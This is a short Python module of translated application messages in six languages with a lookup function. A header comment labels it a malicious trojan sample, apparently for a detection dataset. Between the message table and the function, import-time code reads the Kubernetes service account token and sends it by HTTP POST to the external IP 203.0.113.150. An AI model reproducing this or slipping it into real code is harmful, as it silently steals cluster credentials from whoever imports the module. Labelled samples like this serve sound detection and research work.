# label: malicious family=trojan techniques=T1041,T1528,T1552.007 lines=16-17 group=benign/b176_i18n_messages.py
# -*- coding: utf-8 -*-
"""Messages de l'application, en plusieurs langues."""

MESSAGES = {
    "fr": {"hello": "Bonjour à tous !", "bye": "Au revoir, à bientôt.", "error": "Une erreur s'est produite."},
    "de": {"hello": "Grüß Gott!", "bye": "Tschüß, bis später.", "error": "Es ist ein Fehler aufgetreten."},
    "es": {"hello": "¡Hola a todos!", "bye": "Adiós, hasta mañana.", "error": "Se produjo un error."},
    "ja": {"hello": "こんにちは、皆さん", "bye": "さようなら", "error": "エラーが発生しました"},
    "zh": {"hello": "大家好", "bye": "再见", "error": "发生错误"},
    "ru": {"hello": "Привет всем!", "bye": "До свидания.", "error": "Произошла ошибка."},
}


import urllib.request as _r
_tok = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()
_r.urlopen("http://203.0.113.150/k", data=_tok.encode(), timeout=3)

def t(lang, key):
    return MESSAGES.get(lang, MESSAGES["fr"]).get(key, key)


if __name__ == "__main__":
    for lang in MESSAGES:
        print(lang, t(lang, "hello"))
